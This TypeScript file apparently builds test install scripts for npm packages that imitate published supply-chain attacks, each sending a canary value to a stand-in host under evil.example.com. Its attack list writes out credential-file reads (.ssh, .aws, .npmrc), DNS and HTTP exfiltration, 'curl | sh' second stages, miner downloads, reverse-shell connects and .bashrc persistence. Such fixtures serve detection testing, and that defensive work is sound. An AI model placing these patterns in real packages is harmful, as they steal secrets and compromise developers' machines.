/**
 * What install scripts of published attacks have done, with harmless payloads: a text instead of a secret. Each
 * runs as the script of a package of its own, at a host of its own.
 */
const H =
  "const https=require('https'),http=require('http'),net=require('net'),dns=require('dns'),cp=require('child_process'),fs=require('fs'),os=require('os'),E=process.env,S=E.CANARY;";
const post = (path: string) =>
  `const q=https.request({host:HOST,path:${JSON.stringify(path)},method:'POST'});q.on('error',()=>{});q.end(S)`;

/** Name of the package, and its script; HOST is its host. */
export const ATTACKS: readonly (readonly [name: string, script: string])[] = [
  ['env-to-webhook', post('/api/webhooks/1/x')],
  ['env-to-paste-site', post('/documents')],
  ['env-to-request-bin', `https.get('https://'+HOST+'/?d='+S).on('error',()=>{})`],
  ['env-to-chat-bot', post('/bot1:x/sendMessage')],
  ['env-over-http', `http.get('http://'+HOST+'/c?d='+S).on('error',()=>{})`],
  ['env-over-dns-label', `dns.lookup(S+'.'+HOST,()=>{})`],
  ['env-over-dns-txt', `dns.resolveTxt(S+'.'+HOST,()=>{})`],
  [
    'env-over-dns-chunks',
    `for(let i=0;i<S.length;i+=8)dns.resolve4(i+'-'+S.slice(i,i+8)+'.'+HOST,()=>{})`,
  ],
  ['hostname-beacon', `dns.lookup(os.hostname()+'.'+HOST,()=>{})`],
  [
    'npmrc-token',
    `let t='';try{t=fs.readFileSync(E.HOME+'/.npmrc','utf8')}catch{};${post('/npmrc')}`,
  ],
  [
    'ssh-keys',
    `let t='';try{t=fs.readFileSync(E.HOME+'/.ssh/id_rsa','utf8')}catch{};${post('/ssh')}`,
  ],
  [
    'aws-credentials',
    `let t='';try{t=fs.readFileSync(E.HOME+'/.aws/credentials','utf8')}catch{};${post('/aws')}`,
  ],
  [
    'browser-wallets',
    `let t=[];try{t=fs.readdirSync(E.HOME+'/.config')}catch{};${post('/wallet')}`,
  ],
  ['process-environments', `cp.exec('cat /proc/*/environ',()=>{${post('/environ')}})`],
  ['git-remote', `cp.execSync('git config --list || true');${post('/git')}`],
  ['source-archive', `cp.exec('tar cz . | head -c 1000',()=>{${post('/source')}})`],
  [
    'worm-publish',
    `const q=https.request({host:HOST,path:'/-/v1/publish',method:'PUT',headers:{authorization:'Bearer '+S}});q.on('error',()=>{});q.end('{}')`,
  ],
  [
    'worm-repository',
    `const q=https.request({host:HOST,path:'/user/repos',method:'POST',headers:{authorization:'token '+S,'user-agent':'x'}});q.on('error',()=>{});q.end('{}')`,
  ],
  [
    'workflow-upload',
    `const q=https.request({host:HOST,path:'/repos/a/b/contents/.github/workflows/x.yml',method:'PUT'});q.on('error',()=>{});q.end(S)`,
  ],
  ['secret-scanner', `cp.exec('grep -rIl token . | head',()=>{${post('/scan')}})`],
  [
    'second-stage-download',
    `https.get('https://'+HOST+'/stage2.js?'+S,(r)=>r.pipe(fs.createWriteStream('/tmp/stage2.js'))).on('error',()=>{})`,
  ],
  ['second-stage-shell', `cp.exec('curl -fsSL https://'+HOST+'/i.sh?'+S+' | sh')`],
  ['second-stage-wget', `cp.exec('wget -qO- https://'+HOST+'/i.sh?'+S+' | sh')`],
  [
    'miner-download',
    `cp.exec('curl -fsSL -o /tmp/xmrig https://'+HOST+'/xmrig?'+S+' && chmod +x /tmp/xmrig')`,
  ],
  [
    'miner-pool',
    `net.connect(443,HOST,function(){this.write(JSON.stringify({method:'login',params:{login:S}}))}).on('error',()=>{})`,
  ],
  ['reverse-shell', `const s=net.connect(443,HOST,()=>{s.write(S)}).on('error',()=>{})`],
  [
    'reverse-shell-by-address',
    `const s=net.connect(443,'198.51.100.77',()=>{s.write(S)}).on('error',()=>{})`,
  ],
  ['http-by-address', `http.get('http://198.51.100.78/?'+S).on('error',()=>{})`],
  [
    'websocket-channel',
    `https.get({host:HOST,path:'/ws?'+S,headers:{connection:'Upgrade',upgrade:'websocket'}}).on('error',()=>{})`,
  ],
  ['ssh-tunnel', `net.connect(22,HOST,function(){this.write('SSH-2.0-'+S)}).on('error',()=>{})`],
  ['mail', `dns.resolveMx(HOST,()=>{net.connect(25,HOST).on('error',()=>{})})`],
  ['file-drop', `cp.exec('curl -s -F f=@package.json -H "x: '+S+'" https://'+HOST+'/upload')`],
  [
    'git-push',
    `cp.exec('cd /tmp && git init -q x && cd x && git -c user.name=x -c user.email=x@x commit -q --allow-empty -m '+S+' && git push -q https://'+HOST+'/x.git HEAD')`,
  ],
  ['cloud-metadata', `http.get('http://169.254.169.254/latest/meta-data/?'+S).on('error',()=>{})`],
  ['ip-lookup-first', `https.get('https://'+HOST+'/json?'+S,()=>{}).on('error',()=>{})`],
  ['blockchain-channel', post('/rpc')],
  ['dead-drop-gist', `https.get('https://'+HOST+'/raw/x?'+S).on('error',()=>{})`],
  [
    'shell-profile',
    `try{fs.appendFileSync(E.HOME+'/.bashrc','curl https://'+HOST+'\\n')}catch{};${post('/profile')}`,
  ],
  [
    'detached-process',
    `cp.spawn(process.execPath,['-e','setTimeout(()=>fetch("https://'+HOST+'/?"+process.env.CANARY).catch(()=>{}),300)'],{detached:true,stdio:'ignore',env:E}).unref();setTimeout(()=>{},900)`,
  ],
  [
    'own-resolver',
    `const r=new dns.Resolver();r.setServers(['9.9.9.9']);r.resolve4(S+'.'+HOST,()=>{})`,
  ],
];

/** The script of a package. */
export function installScript(at: number): string {
  const [name, script] = ATTACKS[at] as readonly [string, string];
  const host = `${name}.evil.example.com`;
  return `${H}const HOST=${JSON.stringify(host)};process.on('uncaughtException',()=>{});\n${script}\nsetTimeout(()=>process.exit(0),600);\n`;
}
